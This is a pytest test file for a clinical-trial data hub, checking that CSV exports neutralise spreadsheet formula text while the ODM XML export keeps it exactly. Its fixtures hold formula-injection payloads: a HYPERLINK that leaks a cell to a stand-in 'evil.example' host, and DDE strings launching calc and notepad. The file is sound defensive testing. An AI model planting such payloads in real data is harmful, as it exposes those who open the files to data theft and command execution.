"""Formula text typed at the bedside: neutralised in every CSV file, kept exactly in ODM."""

from __future__ import annotations

import csv
import uuid
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from app.hub.csv_export import export_csv, neutralise
from app.hub.odm import export_odm
from app.models import Participant, VitalSigns
from app.models.clinical import LabResult
from app.roles import Role
from app.services.signing import sign
from app.services.users import add_user
from tests.integration.hub_fixtures import HubWorld, device_store, filled_hub

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS_CMD = "+cmd|' /C calc'!A0"
MINUS_DDE = "-2+3+cmd|' /C calc'!A0"
TAB_FORMULA = "\t=1+1"
REASON = "=1+1 re-measured"
FULL_NAME = "=cmd|' /C notepad'!A0"
NEGATIVE = "-2.5"  # a base excess: a number, not a formula
FORMULAS = (HYPERLINK, AT_SUM, PLUS_CMD, MINUS_DDE, TAB_FORMULA, REASON, FULL_NAME)
INVESTIGATOR_PASSWORD = "formula-investigator-1"


def _at(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


def _enter_formulas(world: HubWorld) -> None:
    """Formula text in a screen-fail reason, notes, a change reason, a name and a signature."""
    store, nurse = world.device.store, world.device.actor(Role.NURSE)
    with store.transaction(nurse) as session:
        failed = Participant(
            screening_number="S-FX1",
            initials="FX",
            sex="M",
            status="screen-failed",
            screen_fail_reason=AT_SUM,
            created_at=_at("2026-11-24T09:00:00"),
        )
        session.add(failed)
        session.flush()
        vitals = VitalSigns(
            participant_id=world.ids["p1"],
            visit_code="D3",
            measured_at=_at("2026-11-28T08:00:00"),
            spo2_percent=95,
            note=HYPERLINK,
        )
        other = VitalSigns(
            participant_id=world.ids["p1"],
            visit_code="D4",
            measured_at=_at("2026-11-29T08:00:00"),
            spo2_percent=96,
            note=MINUS_DDE,
        )
        lab = LabResult(
            participant_id=world.ids["p1"],
            sampled_at=_at("2026-11-25T07:00:00"),
            analyte_code="BE",
            value_entered=NEGATIVE,
            unit="mmol/L",
            note=PLUS_CMD,
        )
        tabbed = LabResult(
            participant_id=world.ids["p1"],
            sampled_at=_at("2026-11-25T07:05:00"),
            analyte_code="CRP",
            value_entered="12",
            unit="mg/L",
            note=TAB_FORMULA,
        )
        session.add_all([vitals, other, lab, tabbed])
    world.ids["vfx"] = vitals.id
    with store.transaction(nurse, reason=REASON) as session:
        found = session.get(VitalSigns, vitals.id)
        assert found is not None
        found.spo2_percent = 94
    add_user(
        store,
        world.device.admin,
        "formula.inv",
        Role.INVESTIGATOR,
        INVESTIGATOR_PASSWORD,
        full_name=FULL_NAME,
    )
    investigator = store.unlock("formula.inv", INVESTIGATOR_PASSWORD)
    sign(store, investigator, INVESTIGATOR_PASSWORD, "participants", world.ids["p1"], "Reviewed")
    world.sync()


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HubWorld]:
    folder = tmp_path_factory.mktemp("formulas")
    with device_store(folder / "device") as opened, filled_hub(opened, folder) as built:
        _enter_formulas(built)
        yield built


def _cells(folder: Path) -> dict[str, list[dict[str, str]]]:
    found = {}
    for path in sorted(folder.iterdir()):
        with open(path, encoding="utf-8", newline="") as stream:
            found[path.name] = list(csv.DictReader(stream))
    return found


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-2.5", "-2.5"),
        ("+3", "+3"),
        ("-1e3", "-1e3"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("", ""),
        ("'=1", "'=1"),
    ],
)
def test_a_cell_is_neutralised_only_when_a_spreadsheet_would_run_it(
    cell: str, written: str
) -> None:
    assert neutralise(cell) == written


def test_every_csv_file_neutralises_formula_text(world: HubWorld) -> None:
    out = world.hub_dir.parent / f"csv-{uuid.uuid4().hex}"
    export_csv(world.hub, out)
    files = _cells(out)
    participants = {r["screening_number"]: r for r in files["participants.csv"]}
    assert participants["S-FX1"]["screen_fail_reason"] == "'" + AT_SUM
    notes = {r["note"] for r in files["vital_signs.csv"]}
    assert {"'" + HYPERLINK, "'" + MINUS_DDE} <= notes
    labs = {r["analyte_code"]: r for r in files["lab_results.csv"]}
    assert labs["BE"]["note"] == "'" + PLUS_CMD
    assert labs["BE"]["value_entered"] == NEGATIVE, "a negative number stays a number"
    assert labs["CRP"]["note"] == "'" + TAB_FORMULA
    audit_reasons = {r["reason"] for r in files["audit.csv"]}
    assert "'" + REASON in audit_reasons
    users = {r["name"]: r for r in files["users.csv"]}
    assert users["formula.inv"]["full_name"] == "'" + FULL_NAME
    printed = {r["printed_name"] for r in files["signatures.csv"]}
    assert "'" + FULL_NAME in printed
    for name, rows in files.items():
        for row in rows:
            for column, value in row.items():
                if value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert value == neutralise(value), (name, column, value)


def test_the_odm_export_keeps_formula_text_exactly(world: HubWorld) -> None:
    out = world.hub_dir.parent / f"odm-{uuid.uuid4().hex}.xml"
    export_odm(world.hub, out)
    root = ET.parse(out).getroot()  # noqa: S314 - our own export, not untrusted input
    seen: set[str] = set()
    for element in root.iter():
        seen.update(element.attrib.values())
        if element.text:
            seen.add(element.text)
    for value in FORMULAS:
        assert value in seen, value
        assert "'" + value not in seen
    assert NEGATIVE in seen
